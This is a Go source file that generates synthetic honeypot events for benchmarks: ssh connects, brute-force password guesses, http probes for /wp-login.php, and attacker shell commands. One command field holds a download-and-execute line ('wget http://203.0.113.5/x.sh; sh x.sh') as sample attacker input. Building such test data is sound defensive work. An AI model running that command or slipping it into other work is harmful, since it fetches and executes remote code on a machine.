// Package synth makes the benchmarks' synthetic events, shaped like real traffic:
// 2,000 attackers sending runs of 50 events each over 10 deckies — connects, ssh
// password guesses (every guess a new credential: a brute force), http requests
// (user-agent fingerprints) and shell commands.
package synth

import (
	"fmt"
	"time"

	"decnet/internal/event"
)

// Attackers is how many attacker addresses the events come from.
const Attackers = 2000

// AttackerIP is the address of attacker a (0 ≤ a < Attackers).
func AttackerIP(a int) string { return fmt.Sprintf("10.9.%d.%d", a/250, a%250+1) }

// Event is the i-th event, timestamped base + i×step.
func Event(i int, base time.Time, step time.Duration) event.Event {
	e := event.Event{ID: fmt.Sprintf("0190f%011x-7000-8000-%012x", i, i), Time: base.Add(time.Duration(i) * step),
		Decky: fmt.Sprintf("decky-%02d", i%10), AttackerIP: AttackerIP(i / 50 % Attackers), AttackerPort: 1024 + i%60000}
	switch i % 4 {
	case 0:
		e.Service, e.Type = "ssh", "connect"
		e.Fields = map[string]string{"proto": "tcp"}
	case 1:
		e.Service, e.Type = "ssh", "auth"
		e.Fields = map[string]string{"username": "root", "password": fmt.Sprintf("pass%d", i), "secret_kind": "plaintext",
			"method": "password", "outcome": "failure", "client_version": "SSH-2.0-libssh2_1.10.0"}
	case 2:
		e.Service, e.Type = "http", "request"
		e.Fields = map[string]string{"method": "GET", "path": fmt.Sprintf("/wp-login.php?id=%d", i), "user_agent": "Mozilla/5.0 (compatible; zgrab/0.x)", "status": "404"}
	case 3:
		e.Service, e.Type = "ssh", "command"
		e.Fields = map[string]string{"command": "cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh", "username": "root"}
	}
	return e
}
